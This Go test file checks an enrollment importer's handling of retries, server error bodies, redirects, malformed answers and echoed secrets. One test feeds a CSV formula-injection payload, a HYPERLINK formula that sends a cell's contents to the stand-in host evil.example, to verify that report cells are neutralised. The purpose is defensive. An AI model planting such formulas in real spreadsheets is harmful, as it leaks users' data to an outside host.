package importer_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"os"
	"strings"
	"testing"

	"rosterpatch/importer/sandbox"
)

// strikes makes faults of names: the first strikes the first request for an
// enrollment, and so on; behind the last there are none. A name that begins with
// "*" strikes for ever.
func strikes(names ...string) func(sandbox.Request) string {
	return func(q sandbox.Request) string {
		if q.Method != "PATCH" {
			return ""
		}
		last := names[len(names)-1]
		switch {
		case q.Nth <= len(names):
			return strings.TrimPrefix(names[q.Nth-1], "*")
		case strings.HasPrefix(last, "*"):
			return last[1:]
		}
		return ""
	}
}

// What the sandbox answers to the one row of a file, and what becomes of it.
func TestAnswers(t *testing.T) {
	tests := []struct {
		name    string
		faults  []string
		retries int
		want    string
		patches int // that the server saw
	}{
		{"a burst of troubles", []string{"500", "503"}, 2, "2 updated 200 3", 3},
		{"no one behind the gateway", []string{"502"}, 1, "2 updated 200 2", 2},
		{"too slow for the gateway", []string{"504"}, 1, "2 updated 200 2", 2},
		{"more of it than retries", []string{"*502"}, 1, "2 failed 502 2 … so ended the last of 2 attempts … 502 Bad Gateway", 2},
		{"no retries", []string{"*500"}, 0, "2 failed 500 1 … the server is in trouble … failure, error, internal_server_error", 1},
		{"the answer is lost once", []string{"lost"}, 3, "2 updated 200 2", 2},
		// An answer that is lost on a connection which was used before cannot be told
		// from a connection that had been closed, which costs no retry.
		{"the answer is lost for ever", []string{"*lost"}, 2, "2 unknown 0 4 … no usable answer … so ended the last of 4 attempts", 4},
		{"lost, then in trouble for ever", []string{"lost", "*500"}, 1, "2 unknown 500 3 … so ended the last of 3 attempts", 3},
		{"a redirect", []string{"redirect"}, 3, "2 failed 302 1 … redirects to \"/elsewhere\" … not followed", 1},
		{"a web page", []string{"html"}, 3, "2 failed 200 1 … web page instead of JSON … Please sign in", 1},
		{"cut short once", []string{"cut"}, 3, "2 updated 200 2", 2},
		{"cut short for ever", []string{"*cut"}, 1, "2 unknown 200 2 the answer, a 200, was cut short; so ended the last of 2 attempts", 2},
		{"a 200 that says failure", []string{"failure"}, 3, "2 failed 200 1 … 200, but its body says failure … failure, error, internal_server_error, the record was not stored", 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			n := newNight(t, rows(1), sandbox.Options{Fault: strikes(tt.faults...), RetryAfter: "none"})
			n.options.Retries = tt.retries
			m := n.run()
			m.finished()
			m.reports(tt.want)
			m.sawPatches(tt.patches)
			m.sawTokens(1)
			if got := len(m.requests); got != tt.patches+1 {
				t.Errorf("the server saw %d requests, among them others than for tokens and PATCHes", got)
			}
			for _, q := range m.patches()[1:] {
				if string(q.Body) != string(m.patches()[0].Body) {
					t.Errorf("sent again with another body: %s", q.Body)
				}
			}
		})
	}
}

// With all the spellings of what the server says, and statuses that no
// retry mends.
func TestRefusals(t *testing.T) {
	const fields = `"imsx_codeMajor":"failure","imsx_severity":"error","imsx_description":"no such enrollment"`
	tests := []struct {
		name              string
		status            int
		contentType, body string
		want              string
	}{
		{"imsx", 404, asJSON, `{` + fields + `,"imsx_CodeMinor":{"imsx_codeMinorField":[{"imsx_codeMinorFieldName":"TargetEndSystem","imsx_codeMinorFieldValue":"unknownobject"}]}}`,
			"2 failed 404 1 … the server has no enrollment with this sourcedId … failure, error, unknownobject, no such enrollment"},
		{"small letter", 404, asJSON, `{` + fields + `,"imsx_codeMinor":{"imsx_codeMinorField":[{"imsx_codeMinorFieldName":"x","imsx_codeMinorFieldValue":"unknownobject"}]}}`,
			"2 failed 404 1 … failure, error, unknownobject, no such enrollment"},
		{"wrapped", 404, asJSON, `{"imsx_StatusInfo":{` + fields + `,"imsx_codeMinor":"unknownobject"}}`, "2 failed 404 1 … failure, error, unknownobject, no such enrollment"},
		{"details", 422, asJSON, `{` + fields + `,"imsx_error_details":[{"field":"role","message":"bad"}]}`, `2 failed 422 1 … does not accept these values … no such enrollment, [{"field":"role","message":"bad"}]`},
		{"plain text", 404, "text/plain", "no such thing\nat all", "2 failed 404 1 … no such thing at all"},
		{"a page", 404, asHTML, "<html><body>Not found</body></html>", "2 failed 404 1 … Not found"},
		{"nothing", 404, asJSON, "", "2 failed 404 1 … the server has no enrollment"},
		{"bad request", 400, asJSON, `{` + fields + `}`, "2 failed 400 1 … does not accept these values"},
		{"gone", 410, asJSON, `{}`, "2 failed 410 1"},
		{"too large", 413, asJSON, `{}`, "2 failed 413 1"},
		{"not implemented", 501, asJSON, `{}`, "2 failed 501 1"},
		{"a formula", 404, asJSON, `{"imsx_codeMajor":"=1+1","imsx_severity":"@SUM(A1)","imsx_description":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")","imsx_CodeMinor":"+1","imsx_error_details":"-2"}`,
			`2 failed 404 1 … =1+1, @SUM(A1), +1, =HYPERLINK("http://evil.example/?"&A1,"click")`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			n := newNight(t, "sourcedId,role,metadata.note\ne1,teacher,=1+2\n", sandbox.Options{})
			n.faces(func(w http.ResponseWriter, r *http.Request, q sandbox.Request) {
				answer(w, tt.status, tt.contentType, tt.body)
			})
			m := n.run()
			m.finished()
			m.reports(tt.want)
			m.sawPatches(1)
			text, err := os.ReadFile(m.report)
			if err != nil {
				t.Fatal(err)
			}
			records, err := csv.NewReader(strings.NewReader(string(text))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for i, cell := range records[1] {
				if name := records[0][i]; strings.HasPrefix(name, "result.") && strings.ContainsAny(cell[:min(1, len(cell))], "=+-@") {
					t.Errorf("%s holds the formula %s", name, cell)
				} else if name == "metadata.note" && cell != "=1+2" {
					t.Errorf("the source's cell has become %s", cell)
				}
			}
		})
	}
}

// And the 200 that waits at the end of each redirect.
func TestRedirects(t *testing.T) {
	for _, status := range []int{300, 301, 302, 303, 304, 307, 308} {
		t.Run(fmt.Sprint(status), func(t *testing.T) {
			t.Parallel()
			n := newNight(t, rows(1), sandbox.Options{})
			n.faces(func(w http.ResponseWriter, r *http.Request, q sandbox.Request) {
				if q.SourcedID == "e1" {
					w.Header().Set("Location", "/elsewhere?token="+r.Header.Get("Authorization"))
					w.WriteHeader(status)
					return
				}
				answer(w, 200, asJSON, "{}")
			})
			m := n.run()
			m.finished()
			m.reports(fmt.Sprintf("2 failed %d 1 … /elsewhere … not followed", status))
			if len(m.requests) != 2 { // a token, and this
				t.Errorf("the redirect was followed: %+v", m.requests)
			}
		})
	}
}

// Bodies that lie about what they are, or about their length.
func TestLyingAnswers(t *testing.T) {
	tests := []struct {
		name  string
		reply func(w http.ResponseWriter)
		want  string // after one retry of the same
	}{
		{"a page that says it is JSON", func(w http.ResponseWriter) { answer(w, 200, asJSON, "\n<!DOCTYPE html><p>Sign in") }, "2 failed 200 1 … web page"},
		{"a page of 200 in parts", func(w http.ResponseWriter) { answer(w, 201, asHTML, "Sign in") }, "2 failed 201 1 … web page"},
		{"half a JSON object", func(w http.ResponseWriter) { answer(w, 200, asJSON, `{"enrollment":{"sourced`) }, "2 unknown 200 2 … cut short"},
		{"shorter than its length", func(w http.ResponseWriter) {
			w.Header().Set("Content-Length", "1000")
			answer(w, 200, asJSON, `{"enrollment":{}}`)
		}, "2 unknown 200 2 … cut short"},
		{"a body without end", func(w http.ResponseWriter) {
			answer(w, 200, asJSON, `{"a":"`)
			for range 3 << 10 {
				fmt.Fprint(w, strings.Repeat("x", 1<<10))
			}
		}, "2 unknown 200 2 … longer than"},
		{"headers without end", func(w http.ResponseWriter) {
			w.Header().Set("X-Large", strings.Repeat("x", 1<<20))
			answer(w, 200, asJSON, `{}`)
		}, "2 unknown 0 2 … no usable answer … headers exceeded"},
		{"the wrapped failure of another server", func(w http.ResponseWriter) {
			answer(w, 200, asJSON, `{"imsx_StatusInfo":{"imsx_codeMajor":"Failure","imsx_severity":"error"}}`)
		}, "2 failed 200 1 … 200, but its body says Failure"},
		{"no content", func(w http.ResponseWriter) { w.WriteHeader(204) }, "2 updated 204 1"},
		{"an empty 200", func(w http.ResponseWriter) { w.WriteHeader(200) }, "2 updated 200 1"},
		{"any object", func(w http.ResponseWriter) { answer(w, 202, asJSON, `{"ok":true}`) }, "2 updated 202 1"},
		{"a warning", func(w http.ResponseWriter) {
			answer(w, 200, asJSON, `{"imsx_codeMajor":"success","imsx_severity":"warning"}`)
		}, "2 updated 200 1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			n := newNight(t, rows(1), sandbox.Options{})
			n.options.Retries = 1
			n.faces(func(w http.ResponseWriter, r *http.Request, q sandbox.Request) { tt.reply(w) })
			m := n.run()
			m.finished()
			m.reports(tt.want)
		})
	}
}

// What a server echoes of secrets is blanked wherever it ends up.
func TestEchoedSecrets(t *testing.T) {
	t.Parallel()
	n := newNight(t, rows(6), sandbox.Options{})
	n.options.Retries = 0
	n.faces(func(w http.ResponseWriter, r *http.Request, q sandbox.Request) {
		echo := fmt.Sprintf("%s and %s", r.Header.Get("Authorization"), secret)
		w.Header().Set("X-Request-Id", strings.ReplaceAll(echo, "\n", ""))
		switch q.SourcedID {
		case "e1":
			answer(w, 400, "text/plain", echo)
		case "e2":
			answer(w, 200, asHTML, echo)
		case "e3":
			answer(w, 422, asJSON, fmt.Sprintf(`{"imsx_description":%q,"imsx_codeMajor":%[1]q,"imsx_error_details":[%[1]q]}`, echo))
		case "e4":
			w.Header().Set("Location", "https://elsewhere.example/"+r.Header.Get("Authorization"))
			w.WriteHeader(302)
		case "e5":
			answer(w, 500, "text/plain", strings.Repeat(" ", 150)+strings.Repeat("x", 180)+echo) // across the end of the excerpt
		case "e6":
			answer(w, 403, "text/plain", echo)
		}
	})
	m := n.run()
	m.finished()
	m.reports("2 failed 400 1 … [redacted]", "3 failed 200 1 … [redacted]", "4 failed 422 1 … [redacted]", "5 failed 302 1 … [redacted]",
		"6 failed 500 1", "7 failed 403 1 … [redacted]")
}
